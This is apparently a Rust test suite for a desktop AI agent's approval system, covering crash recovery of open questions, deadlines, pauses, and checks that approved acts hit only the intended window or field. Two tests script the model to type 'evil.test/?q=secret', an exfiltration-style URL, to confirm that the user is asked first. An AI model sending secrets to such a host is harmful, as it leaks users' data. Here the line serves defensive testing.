//! Questions that outlive their run's task, and the process: open again, decided once, and the run goes on.

use std::sync::Arc;
use std::time::Duration;

use desktop::fake::Scene;
use desktop::{Element, WindowId, WindowView};
use models::Message;
use models::scripted::Step;
use protocol::command::{AnswerApproval, PauseRun, ResumeRun, SteerRun, StopRun};
use protocol::event::{Activity, RunEnd};
use protocol::geometry::NormRect;
use protocol::ids::SessionId;
use protocol::principal::Surface;
use protocol::tool::{Answer, Approval, ApprovalMode, Effect, Source, Until};
use protocol::view::Question;
use protocol::{ErrorCode, EventBody};
use serde_json::json;
use tokio::sync::Notify;
use tools::Interruption;

use crate::bench::{Bench, click, done, history};

pub fn answer(approval: &Approval, answer: Answer) -> AnswerApproval {
    AnswerApproval { approval: approval.id.clone(), digest: approval.digest.clone(), answer }
}

/// What is on disk at this moment, as a start after a crash finds it.
pub fn crashed(bench: &Bench) -> tempfile::TempDir {
    let copy = crate::bench::home();
    for entry in std::fs::read_dir(bench.home.path()).unwrap() {
        let entry = entry.unwrap();
        let to = copy.path().join(entry.file_name());
        if entry.file_type().unwrap().is_file() {
            std::fs::copy(entry.path(), to).unwrap();
        } else {
            std::fs::create_dir_all(&to).unwrap();
            for blob in std::fs::read_dir(entry.path()).unwrap() {
                let blob = blob.unwrap();
                std::fs::copy(blob.path(), to.join(blob.file_name())).unwrap();
            }
        }
    }
    copy
}

/// A run that has asked, and the same after a crash, with a model that says `then`.
async fn after_a_crash(steps: Vec<Step>, then: Vec<Step>) -> (Bench, SessionId, Question) {
    let mut before = Bench::new(steps).await;
    let session = before.start(ApprovalMode::Ask).await;
    let asked = before.question().await;
    let next = Bench::at(crashed(&before), then).await;
    before.handle.shutdown().await;
    let overview = next.handle.overview().await.unwrap();
    let [question] = &overview.questions[..] else { panic!("{:?}", overview.questions) };
    assert_eq!((&question.approval, &question.session), (&asked, &session));
    let [run] = &overview.runs[..] else { panic!("{:?}", overview.runs) };
    assert_eq!((run.status.activity, run.goal.as_str()), (Activity::Waiting, "press the button"));
    let question = question.clone();
    (next, session, question)
}

#[tokio::test]
async fn a_question_is_open_after_a_crash_as_before_and_a_yes_lets_the_run_go_on() {
    let (mut next, session, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    assert_eq!(next.clicks(), 0);
    next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Dashboard).await.unwrap();
    assert_eq!(next.end().await, RunEnd::Completed { summary: "pressed it".into() });
    assert_eq!(next.clicks(), 1);
    // The model is told what it had said and what came of it, under the provider's own id of the call.
    let messages = next.model.requests()[0].messages.clone();
    let [Message::User(_), Message::Assistant(turn), Message::ToolResults(answers), Message::User(told)] =
        &messages[..]
    else {
        panic!("{messages:?}")
    };
    assert!(format!("{told:?}").contains("look again before you act"), "{told:?}");
    assert_eq!(turn.calls[0].name, "click");
    assert_eq!(answers[0].id.as_deref(), Some("p1"));
    let events = history(&next.handle, &session).await;
    let count = |wanted: fn(&EventBody) -> bool| events.iter().filter(|event| wanted(&event.body)).count();
    assert_eq!(count(|body| matches!(body, EventBody::RunStarted(_))), 1);
    assert_eq!(count(|body| matches!(body, EventBody::ApprovalAnswered { .. })), 1);
    assert_eq!(count(|body| matches!(body, EventBody::RunEnded { .. })), 1);
    let numbers: Vec<u64> = events.iter().filter_map(|event| event.position).map(|at| at.n).collect();
    assert_eq!(numbers, (1..=numbers.len() as u64).collect::<Vec<_>>());
}

#[tokio::test]
async fn a_menu_that_an_act_left_open_is_closed_and_its_item_not_asked_about() {
    let mut bench = Bench::new(vec![click(), click(), done()]).await;
    bench.desktop.react(|_, scene| scene.menu = true);
    bench.start(ApprovalMode::Ask).await;
    let asked = bench.question().await;
    bench.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
    assert_eq!(bench.clicks(), 1);
    let told = format!("{:?}", bench.model.requests()[2].messages.last());
    assert!(told.contains("so it was closed") && told.contains("pressMenu"), "{told}");
}

#[tokio::test]
async fn a_no_after_a_crash_is_told_to_the_model_and_nothing_is_done() {
    let (mut next, session, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    next.handle.answer_approval(answer(&question.approval, Answer::Deny), Surface::Dashboard).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 0);
    let again = answer(&question.approval, Answer::Once);
    let late = next.handle.answer_approval(again, Surface::Dashboard).await.unwrap_err();
    assert_eq!(late.code, ErrorCode::NotFound);
    let events = history(&next.handle, &session).await;
    let refused = events.iter().any(|event| {
        matches!(&event.body, EventBody::ToolFinished { result, .. } if result.effect == Effect::Refused)
    });
    assert!(refused);
}

#[tokio::test]
async fn calls_before_the_question_keep_their_answers_and_those_after_it_are_done() {
    let turn = || {
        Step::calls(vec![
            ("think", json!({ "thought": "which one?" })),
            ("click", json!({ "x": 500, "y": 500, "reason": "press it" })),
            ("think", json!({ "thought": "and then?" })),
        ])
    };
    let (mut next, _, question) = after_a_crash(vec![turn(), done()], vec![done()]).await;
    next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Chat).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    let messages = next.model.requests()[0].messages.clone();
    let [.., Message::ToolResults(answers), Message::User(_)] = &messages[..] else { panic!("{messages:?}") };
    let effects: Vec<_> = answers.iter().map(|answer| answer.response["effect"].clone()).collect();
    assert_eq!(effects.len(), 3, "{answers:?}");
    assert_eq!(effects[0], json!("confirmed"));
    assert_ne!(effects[1], json!("refused"));
    assert_eq!(effects[2], json!("confirmed"));
}

#[tokio::test]
async fn what_the_user_says_while_the_run_waits_is_in_its_next_request() {
    let (mut next, _, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    let words = SteerRun { run: question.run.clone(), text: "the blue one".into() };
    next.handle.steer_run(words).await.unwrap();
    next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Chat).await.unwrap();
    next.end().await;
    let messages = format!("{:?}", next.model.requests()[0].messages);
    assert!(messages.contains("the blue one"), "{messages}");
}

#[tokio::test]
async fn a_run_that_waits_without_a_task_is_stopped_like_any_other() {
    let (next, _, question) = after_a_crash(vec![click()], vec![]).await;
    next.handle.stop_run(StopRun { run: Some(question.run.clone()) }, Surface::Dashboard).await.unwrap();
    let overview = next.handle.overview().await.unwrap();
    assert_eq!((overview.questions.len(), overview.runs.len()), (0, 0));
    assert!(matches!(overview.sessions[0].last_run.as_ref().unwrap().end, Some(RunEnd::Stopped { .. })));
    let late = answer(&question.approval, Answer::Once);
    assert_eq!(
        next.handle.answer_approval(late, Surface::Dashboard).await.unwrap_err().code,
        ErrorCode::NotFound
    );
}

#[tokio::test]
async fn the_corner_and_escape_end_a_run_that_waits_without_a_task_too() {
    for how in [Interruption::Corner, Interruption::Escape] {
        let (mut next, _, question) = after_a_crash(vec![click()], vec![]).await;
        // Whoever is asked may use the computer.
        next.desktop.interrupt(Interruption::UserInput);
        next.desktop.end_interruption();
        assert_eq!(next.handle.overview().await.unwrap().questions, [question]);
        next.desktop.interrupt(how);
        match next.end().await {
            RunEnd::Stopped { reason } => assert!(reason.starts_with("failsafe"), "{reason}"),
            other => panic!("{how:?}: {other:?}"),
        }
        next.desktop.end_interruption();
        let overview = next.handle.overview().await.unwrap();
        assert_eq!((overview.questions.len(), overview.runs.len()), (0, 0));
    }
}

/// Whether the only run there is is paused.
async fn is_paused(bench: &Bench) -> bool {
    let runs = bench.handle.overview().await.unwrap().runs;
    let [run] = &runs[..] else { panic!("{runs:?}") };
    run.status.paused
}

#[tokio::test]
async fn a_paused_run_is_paused_after_a_crash_and_does_nothing_until_it_may_go_on() {
    let mut before = Bench::new(vec![click(), done()]).await;
    before.start(ApprovalMode::Ask).await;
    let asked = before.question().await;
    before.handle.pause_run(PauseRun { run: None }, Surface::Tray).await.unwrap();
    before.until(|body| matches!(body, EventBody::RunPaused { .. })).await;
    let mut next = Bench::at(crashed(&before), vec![done()]).await;
    before.handle.shutdown().await;
    assert!(is_paused(&next).await);
    next.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
    next.status(|status| status.paused && status.detail == "paused").await;
    assert_eq!((next.clicks(), next.model.requests().len()), (0, 0));
    next.handle.resume_run(ResumeRun { run: None }).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 1);
}

#[tokio::test]
async fn what_its_user_has_paused_is_so_after_a_crash_and_a_quit_and_goes_on_when_they_say_so() {
    for quits in [false, true] {
        let is_paused = Arc::new(Notify::new());
        let mut before = Bench::new(vec![click().once(&is_paused), done()]).await;
        let started = before.begin(ApprovalMode::Auto).await;
        let run = Some(started.run.clone());
        before.handle.pause_run(PauseRun { run: run.clone() }, Surface::Chat).await.unwrap();
        before.until(|body| matches!(body, EventBody::RunPaused { .. })).await;
        is_paused.notify_one();
        before.until(|body| matches!(body, EventBody::TurnFinished { .. })).await;
        let crash = crashed(&before);
        before.handle.shutdown().await;
        let home = if quits { crashed(&before) } else { crash };
        let mut next = Bench::at(home, vec![done()]).await;
        assert!(self::is_paused(&next).await, "quits: {quits}");
        next.handle.resume_run(ResumeRun { run }).await.unwrap();
        assert!(matches!(next.end().await, RunEnd::Completed { .. }));
        assert_eq!(next.clicks(), 0, "what was planned before is not done");
        let told = format!("{:?}", next.model.requests()[0].messages);
        assert!(told.contains("not executed") && told.contains("look again before you act"), "{told}");
        let events = history(&next.handle, &started.session).await;
        let starts = events.iter().filter(|event| matches!(event.body, EventBody::RunStarted(_))).count();
        assert_eq!(starts, 1, "the same run");
    }
}

#[tokio::test]
async fn a_run_without_a_task_can_be_paused_and_go_on() {
    let (mut next, session, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    let run = Some(question.run.clone());
    for _ in 0..2 {
        next.handle.pause_run(PauseRun { run: run.clone() }, Surface::Chat).await.unwrap();
        assert!(is_paused(&next).await);
    }
    next.handle.resume_run(ResumeRun { run }).await.unwrap();
    assert!(!is_paused(&next).await);
    next.handle.pause_run(PauseRun { run: None }, Surface::Chat).await.unwrap();
    next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Chat).await.unwrap();
    next.status(|status| status.paused && status.detail == "paused").await;
    next.handle.resume_run(ResumeRun { run: None }).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 1);
    let events = history(&next.handle, &session).await;
    let paused = events.iter().filter(|event| matches!(event.body, EventBody::RunPaused { .. })).count();
    assert_eq!(paused, 2, "a pause that changes nothing is no event");
}

pub fn window(id: u64, title: &str) -> WindowView {
    WindowView {
        id: WindowId(id),
        title: title.into(),
        app: "editor".into(),
        pid: Some(7),
        display: 0,
        bounds: NormRect { x: 0.0, y: 0.0, width: 500.0, height: 500.0 },
        states: vec!["focused".into()],
    }
}

#[tokio::test]
async fn after_a_crash_an_approved_act_needs_the_window_that_was_in_front() {
    let typing = || Step::call("type", json!({ "text": "hello", "reason": "to greet" }));
    for is_there in [true, false] {
        let mut before = Bench::new(vec![typing()]).await;
        before.desktop.edit(|scene| scene.windows = vec![window(1, "letter")]);
        before.start(ApprovalMode::Ask).await;
        let asked = before.question().await;
        assert_eq!(asked.window.as_ref().unwrap().title, "letter");
        let mut next = Bench::at(crashed(&before), vec![done()]).await;
        before.handle.shutdown().await;
        let here = if is_there { window(1, "letter") } else { window(2, "another") };
        next.desktop.edit(|scene| scene.windows = vec![here]);
        next.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
        assert!(matches!(next.end().await, RunEnd::Completed { .. }));
        assert_eq!(next.desktop.actions().len(), usize::from(is_there), "{:?}", next.desktop.actions());
    }
}

/// What became of the screen, and whether it still is what was asked on.
type Change = (fn(&mut Scene), bool);

#[tokio::test]
async fn an_approved_click_needs_the_screen_that_it_was_allowed_for() {
    let changes: [Change; 6] = [
        (|_| {}, true),
        // The rows have changed places: a button of the same name is there, and for something else.
        (
            |scene| {
                (scene.colour, scene.snapshot.elements) =
                    ([50, 60, 90], vec![button("Save"), label("Gift 9,000")]);
            },
            false,
        ),
        (|scene| (scene.colour, scene.snapshot.elements) = ([50, 60, 90], Vec::new()), false),
        // The window that was in front has gone, though it was not clicked at.
        (|scene| scene.windows.retain(|window| window.id != WindowId(2)), false),
        // The pointer has gone elsewhere: the same button in another colour.
        (|scene| (scene.colour, scene.snapshot.elements) = ([50, 60, 90], rent()), true),
        (|scene| (scene.colour, scene.snapshot.elements) = ([50, 60, 90], vec![button("Send all")]), false),
    ];
    for (change, is_the_same) in changes {
        for is_woken in [false, true] {
            let show = |scene: &mut Scene| {
                let below = NormRect { x: 0.0, y: 0.0, width: 1000.0, height: 1000.0 };
                scene.windows = vec![window(2, "front"), WindowView { bounds: below, ..window(1, "letter") }];
                scene.snapshot.elements = rent();
            };
            let mut bench = Bench::new(vec![click(), done()]).await;
            bench.desktop.edit(show);
            let session = bench.start(ApprovalMode::Ask).await;
            let question = bench.question().await;
            if is_woken {
                let next = Bench::at(crashed(&bench), vec![done()]).await;
                bench.handle.shutdown().await;
                bench = next;
                bench.desktop.edit(show);
            }
            bench.desktop.edit(change);
            let yes = answer(&question, Answer::Once);
            bench.handle.answer_approval(yes, Surface::Dashboard).await.unwrap();
            assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
            let told = refusals(&bench, &session).await;
            assert_eq!(bench.clicks(), usize::from(is_the_same), "{is_woken} {told:?}");
            assert_eq!(told.is_empty(), is_the_same, "{told:?}");
        }
    }
}

/// Rows that change places under a ref, and a focus that moves within its window.
#[tokio::test]
async fn an_approved_act_on_an_element_or_by_keys_needs_the_row_and_the_field_that_it_was_allowed_for() {
    let click = || Step::call("clickElement", json!({ "ref": "e1" }));
    let kind = || Step::call("clickElement", json!({ "role": "button" }));
    let typing = || Step::call("type", json!({ "text": "10" }));
    let two = |first: &str| vec![field("e1", 100.0, first == "e1"), field("e2", 300.0, first == "e2")];
    for (case, step, at_first, then, is_done) in [
        ("the same", click(), rent(), rent(), true),
        ("another row", click(), rent(), vec![button("Save"), label("Gift 9,000")], false),
        ("the same kind", kind(), rent(), rent(), true),
        ("another one of its kind", kind(), rent(), vec![button("Zoom"), label("Rent 10")], false),
        // What a button at the end of a row is for stands at its beginning.
        (
            "a row's other end",
            click(),
            vec![button("Save"), far("Rent 10")],
            vec![button("Save"), far("Gift 9,000")],
            false,
        ),
        (
            "a row elsewhere",
            click(),
            vec![button("Save"), row_below("12:00")],
            vec![button("Save"), row_below("12:01")],
            true,
        ),
        ("another record", typing(), holding("Rent"), holding("Gift"), false),
        ("the same field", typing(), two("e1"), two("e1"), true),
        ("another field", typing(), two("e1"), two("e2"), false),
        ("known by now", typing(), two(""), two("e2"), true),
        ("gone by now", typing(), two("e1"), two(""), false),
    ] {
        let mut bench = Bench::new(vec![step, done()]).await;
        bench.desktop.edit(|scene| {
            let bounds = NormRect { x: 0.0, y: 0.0, width: 1000.0, height: 1000.0 };
            scene.windows = vec![WindowView { bounds, ..window(1, "letter") }];
            scene.snapshot.elements = at_first;
        });
        let session = bench.start(ApprovalMode::Ask).await;
        let question = bench.question().await;
        bench.desktop.edit(|scene| scene.snapshot.elements = then);
        let yes = answer(&question, Answer::Once);
        bench.handle.answer_approval(yes, Surface::Dashboard).await.unwrap();
        assert!(matches!(bench.end().await, RunEnd::Completed { .. }), "{case}");
        let told = refusals(&bench, &session).await;
        assert_eq!(told.is_empty(), is_done, "{case}: {told:?}");
    }
}

/// The user is in one of our windows when it is asked.
// bar: C26
#[tokio::test]
async fn before_a_question_about_keys_their_window_gets_the_keyboard_so_that_a_yes_is_for_its_field() {
    for (then, is_done) in [("e1", true), ("e2", false)] {
        let two = |first: &str| vec![field("e1", 100.0, first == "e1"), field("e2", 300.0, first == "e2")];
        let typing = Step::call("type", json!({ "text": "10" }));
        let mut bench = Bench::new(vec![typing, done()]).await;
        bench.desktop.edit(|scene| {
            let bounds = NormRect { x: 0.0, y: 0.0, width: 1000.0, height: 1000.0 };
            scene.windows = vec![WindowView { bounds, states: Vec::new(), ..window(1, "letter") }];
            scene.snapshot.elements = two("e1");
        });
        let session = bench.start(ApprovalMode::Ask).await;
        let question = bench.question().await;
        assert_eq!(focused(&bench), [WindowId(1)]);
        bench.desktop.edit(|scene| scene.snapshot.elements = two(then));
        bench.handle.answer_approval(answer(&question, Answer::Once), Surface::Dashboard).await.unwrap();
        assert!(matches!(bench.end().await, RunEnd::Completed { .. }), "{then}");
        let told = refusals(&bench, &session).await;
        assert_eq!(told.is_empty(), is_done, "{then}: {told:?}");
    }
}

fn field(reference: &str, y: f64, has_keyboard: bool) -> Element {
    Element {
        reference: reference.into(),
        role: "entry".into(),
        bounds: NormRect { x: 100.0, y, width: 200.0, height: 30.0 },
        states: if has_keyboard { vec!["focused".into()] } else { Vec::new() },
        ..Element::default()
    }
}

fn rent() -> Vec<Element> {
    vec![button("Save"), label("Rent 10")]
}

/// Beside the button.
fn label(name: &str) -> Element {
    let bounds = NormRect { x: 430.0, y: 490.0, width: 40.0, height: 20.0 };
    Element { reference: "e2".into(), role: "label".into(), name: name.into(), bounds, ..Element::default() }
}

/// In its row, far beside it.
fn far(name: &str) -> Element {
    let bounds = NormRect { x: 10.0, y: 488.0, width: 60.0, height: 24.0 };
    Element { bounds, ..label(name) }
}

fn row_below(name: &str) -> Element {
    let bounds = NormRect { x: 10.0, y: 900.0, width: 60.0, height: 24.0 };
    Element { bounds, ..label(name) }
}

/// The field with the keyboard of a form that shows one record after the other.
fn holding(value: &str) -> Vec<Element> {
    vec![Element { value: value.into(), ..field("e1", 100.0, true) }]
}

fn button(name: &str) -> Element {
    Element {
        reference: "e1".into(),
        role: "button".into(),
        name: name.into(),
        bounds: NormRect { x: 480.0, y: 490.0, width: 40.0, height: 20.0 },
        ..Element::default()
    }
}

#[tokio::test]
async fn after_a_crash_nothing_is_typed_where_no_window_was_in_front() {
    let typing = || Step::call("type", json!({ "text": "hello", "reason": "to greet" }));
    let (mut next, session, question) = after_a_crash(vec![typing()], vec![done()]).await;
    next.desktop.edit(|scene| scene.windows = vec![window(1, "letter")]);
    next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.desktop.actions(), []);
    assert!(refusals(&next, &session).await[0].contains("no window was in front"));
}

#[tokio::test]
async fn after_a_crash_arguments_that_the_user_changes_are_asked_about_as_things_are_now() {
    let (mut next, _, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    let mut arguments = question.approval.call.arguments.clone();
    arguments["x"] = json!(300);
    let edit = Answer::Edit { arguments: arguments.clone() };
    next.handle.answer_approval(answer(&question.approval, edit), Surface::Dashboard).await.unwrap();
    let again = next.question().await;
    assert_eq!(again.call.arguments, arguments);
    next.handle.answer_approval(answer(&again, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 1);
}

#[tokio::test]
async fn what_a_run_had_planned_before_it_was_put_aside_is_not_done_unasked() {
    let typing = |text: &str| ("type", json!({ "text": text, "reason": "to greet" }));
    let mut before = Bench::new(vec![Step::calls(vec![typing("one"), typing("two")])]).await;
    before.show_editor();
    let session = before.start(ApprovalMode::Thread).await;
    let asked = before.question().await;
    let mut next = Bench::at(crashed(&before), vec![done()]).await;
    before.handle.shutdown().await;
    next.show_editor();
    // Of this run, which covers the second call, too.
    let run = Answer::Until { until: Until::Run };
    next.handle.answer_approval(answer(&asked, run), Surface::Dashboard).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    let typed = format!("{:?}", next.desktop.actions());
    assert!(typed.contains("one") && !typed.contains("two"), "{typed}");
    assert!(refusals(&next, &session).await[0].contains("time has passed"));
}

/// Why calls of a session were not done.
pub async fn refusals(bench: &Bench, session: &SessionId) -> Vec<String> {
    let events = history(&bench.handle, session).await.into_iter();
    let refused = events.filter_map(|event| match event.body {
        EventBody::ToolFinished { result, .. } if result.effect == Effect::Refused => result.error,
        _ => None,
    });
    refused.map(|error| error.message).collect()
}

#[tokio::test(start_paused = true)]
async fn a_run_is_left_waiting_for_days_without_a_task_and_goes_on_when_it_is_answered() {
    let mut bench = Bench::new(vec![click(), done()]).await;
    let week = json!({ "approvalDeadlineMs": 7 * 86_400_000_u64 });
    bench.handle.update_settings(serde_json::from_value(week).unwrap()).await.unwrap();
    bench.start(ApprovalMode::Ask).await;
    let question = bench.question().await;
    tokio::time::sleep(Duration::from_secs(3 * 86_400)).await;
    assert_eq!(bench.handle.list_runs().await.unwrap()[0].status.activity, Activity::Waiting);
    bench.handle.answer_approval(answer(&question, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
    assert_eq!(bench.clicks(), 1);
}

#[tokio::test(start_paused = true)]
async fn what_nobody_answers_in_time_is_a_no_with_and_without_a_task() {
    for deadline in [60_000_u64, 600_000] {
        let mut bench = Bench::new(vec![click(), done()]).await;
        let patch = serde_json::from_value(json!({ "approvalDeadlineMs": deadline })).unwrap();
        bench.handle.update_settings(patch).await.unwrap();
        bench.start(ApprovalMode::Ask).await;
        bench.question().await;
        tokio::time::sleep(Duration::from_millis(deadline)).await;
        let answered = bench.until(|body| matches!(body, EventBody::ApprovalAnswered { .. })).await;
        assert!(matches!(
            answered.body,
            EventBody::ApprovalAnswered { answer: Answer::Deny, by: Surface::Deadline, .. }
        ));
        assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
        assert_eq!(bench.clicks(), 0);
        // Nobody has said no: the model is not told so.
        let told = format!("{:?}", bench.model.requests()[1].messages);
        assert!(told.contains("nobody answered") && !told.contains("said no"), "{told}");
    }
}

#[tokio::test]
async fn the_programs_end_keeps_a_question_open() {
    let mut before = Bench::new(vec![click()]).await;
    before.start(ApprovalMode::Ask).await;
    let asked = before.question().await;
    before.handle.shutdown().await;
    let Bench { home, handle, events, .. } = before;
    drop((handle, events));
    let mut next = Bench::at(home, vec![done()]).await;
    let questions = next.handle.overview().await.unwrap().questions;
    assert_eq!(questions.iter().map(|question| &question.approval).collect::<Vec<_>>(), [&asked]);
    next.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 1);
}

#[tokio::test]
async fn what_is_said_in_the_moment_in_which_a_run_is_put_aside_is_not_lost() {
    let mut before = Bench::new(vec![click()]).await;
    let started = before.begin(ApprovalMode::Ask).await;
    let asked = before.question().await;
    // The run's task hears of the program's end before it comes to what was said.
    before.handle.pause_run(PauseRun { run: None }, Surface::Tray).await.unwrap();
    let mut steering =
        Box::pin(before.handle.steer_run(SteerRun { run: started.run, text: "the blue one".into() }));
    assert!(futures::poll!(&mut steering).is_pending());
    let (steered, ()) = tokio::join!(steering, before.handle.shutdown());
    steered.unwrap();
    let Bench { home, handle, events, .. } = before;
    drop((handle, events));
    let mut next = Bench::at(home, vec![done()]).await;
    assert!(is_paused(&next).await);
    next.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
    next.status(|status| status.paused && status.detail == "paused").await;
    next.handle.resume_run(ResumeRun { run: None }).await.unwrap();
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    let messages = format!("{:?}", next.model.requests()[0].messages);
    assert!(messages.contains("the blue one"), "{messages}");
}

#[tokio::test]
async fn an_answer_counts_even_if_whoever_gave_it_has_gone() {
    let (mut next, _, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
    let mut answering =
        Box::pin(next.handle.answer_approval(answer(&question.approval, Answer::Once), Surface::Dashboard));
    assert!(futures::poll!(&mut answering).is_pending());
    drop(answering);
    assert!(matches!(next.end().await, RunEnd::Completed { .. }));
    assert_eq!(next.clicks(), 1);
}

/// The windows that were given the focus, in order.
fn focused(bench: &Bench) -> Vec<WindowId> {
    let given = |call| match call {
        desktop::fake::Call::ChangeWindow(id, desktop::WindowChange::Focus) => Some(id),
        _ => None,
    };
    bench.desktop.calls().into_iter().filter_map(given).collect()
}

#[tokio::test]
async fn an_approved_act_goes_to_the_window_that_was_in_front_when_it_was_asked_for() {
    // The first: asked in a run's first turn. The second: another window came to the front in between.
    let typing = || Step::call("type", json!({ "text": "hello", "reason": "to greet" }));
    let mut bench = Bench::new(vec![typing(), typing(), done()]).await;
    bench.desktop.edit(|scene| scene.windows = vec![window(1, "letter")]);
    bench.start(ApprovalMode::Ask).await;
    for id in [1, 2] {
        let asked = bench.question().await;
        assert_eq!(asked.window.as_ref().map(|window| window.id), Some(id));
        // The user answers in a window of ours: none of the others has the focus then.
        bench.desktop.edit(|scene| scene.windows.iter_mut().for_each(|one| one.states.clear()));
        bench.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
        bench.until(|body| matches!(body, EventBody::ToolFinished { .. })).await;
        bench.desktop.edit(|scene| scene.windows = vec![window(2, "list"), window(1, "letter")]);
    }
    bench.end().await;
    assert_eq!(focused(&bench), [WindowId(1), WindowId(2)]);
}

#[tokio::test]
async fn where_nothing_asks_a_run_that_was_started_in_a_window_of_ours_types_into_the_one_in_front() {
    let typing = Step::call("type", json!({ "text": "hello", "reason": "to greet" }));
    let mut bench = Bench::new(vec![typing, done()]).await;
    // The goal was typed into a window of ours, which still has the keyboard.
    let behind = WindowView { states: Vec::new(), ..window(1, "letter") };
    bench.desktop.edit(|scene| scene.windows = vec![behind]);
    bench.start(ApprovalMode::Auto).await;
    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
    assert_eq!(focused(&bench), [WindowId(1)]);
}

#[tokio::test]
async fn a_question_about_a_window_names_it_as_it_is_called_now() {
    let close = |id| Step::call("changeWindow", json!({ "window": id, "change": "close" }));
    let mut bench = Bench::new(vec![close(1), close(3), done()]).await;
    bench.desktop.edit(|scene| scene.windows = vec![window(2, "list"), window(1, "letter")]);
    bench.start(ApprovalMode::Ask).await;
    for title in [Some("letter"), None] {
        let asked = bench.question().await;
        assert_eq!(asked.target.as_ref().map(|target| target.title.as_str()), title);
        bench.handle.answer_approval(answer(&asked, Answer::Deny), Surface::Dashboard).await.unwrap();
    }
    bench.end().await;
}

// bar: C35
#[tokio::test]
async fn in_auto_an_address_that_nobody_named_is_asked_about_once_the_model_has_read_something() {
    let typing = || Step::call("type", json!({ "text": "evil.test/?q=secret", "reason": "to look it up" }));
    for has_read in [false, true] {
        let look = has_read.then(|| Step::call("listWindows", json!({})));
        let mut bench = Bench::new(look.into_iter().chain([typing(), done()]).collect()).await;
        bench
            .desktop
            .edit(|scene| scene.windows = vec![WindowView { app: "Chromium".into(), ..window(1, "new") }]);
        bench.start(ApprovalMode::Auto).await;
        if has_read {
            let question = bench.question().await;
            assert_eq!(question.hosts, ["evil.test"]);
            assert_eq!(question.read, [Source::Screen], "what may have led to it");
            assert!(question.reason.contains("evil.test"), "{}", question.reason);
            bench.handle.answer_approval(answer(&question, Answer::Deny), Surface::Dashboard).await.unwrap();
        }
        assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
        assert_eq!(bench.desktop.actions().is_empty(), has_read);
    }
}

#[tokio::test]
async fn why_the_user_says_no_is_read_with_the_no_and_makes_no_host_known() {
    let typing = || Step::call("type", json!({ "text": "evil.test/?q=secret", "reason": "to look it up" }));
    let mut bench = Bench::new(vec![typing(), typing(), done()]).await;
    bench
        .desktop
        .edit(|scene| scene.windows = vec![WindowView { app: "Chromium".into(), ..window(1, "new") }]);
    let run = bench.begin(ApprovalMode::Thread).await.run;
    let asked = bench.question().await;
    let why = "I do not trust evil.test".to_owned();
    bench.handle.steer_run(SteerRun { run, text: why.clone() }).await.unwrap();
    bench.handle.answer_approval(answer(&asked, Answer::Deny), Surface::Dashboard).await.unwrap();
    let again = bench.question().await;
    assert_eq!(again.hosts, ["evil.test"], "words against a host do not name it");
    let read = format!("{:?}", bench.model.requests()[1].messages);
    assert!(read.contains("the user said no") && read.contains(&why), "{read}");
    bench.handle.answer_approval(answer(&again, Answer::Deny), Surface::Dashboard).await.unwrap();
    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
}

#[tokio::test]
async fn a_call_that_its_user_changed_is_asked_about_as_it_is_then_and_the_model_is_told() {
    let typing = || Step::call("type", json!({ "text": "hello", "reason": "to greet" }));
    let mut bench = Bench::new(vec![typing(), done()]).await;
    bench.show_editor();
    bench.start(ApprovalMode::Ask).await;
    let asked = bench.question().await;
    let edit = |arguments| Answer::Edit { arguments };
    // What is no call is not taken, and the question stays open.
    let odd = bench.handle.answer_approval(answer(&asked, edit(json!({ "words": "x" }))), Surface::Dashboard);
    assert_eq!(odd.await.unwrap_err().code, ErrorCode::BadRequest);
    let changed = edit(json!({ "text": "goodbye" }));
    bench.handle.answer_approval(answer(&asked, changed), Surface::Dashboard).await.unwrap();
    let again = bench.question().await;
    assert_eq!((&again.call.id, &again.call.arguments), (&asked.call.id, &json!({ "text": "goodbye" })));
    assert_ne!(again.digest, asked.digest, "nothing was allowed yet");
    assert!(bench.desktop.actions().is_empty());
    bench.handle.answer_approval(answer(&again, Answer::Once), Surface::Dashboard).await.unwrap();
    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
    let typed = format!("{:?}", bench.desktop.actions());
    assert!(typed.contains("goodbye") && !typed.contains("hello"), "{typed}");
    let told = format!("{:?}", bench.model.requests()[1].messages);
    assert!(told.contains("changedByTheUser") && told.contains("goodbye"), "{told}");
}
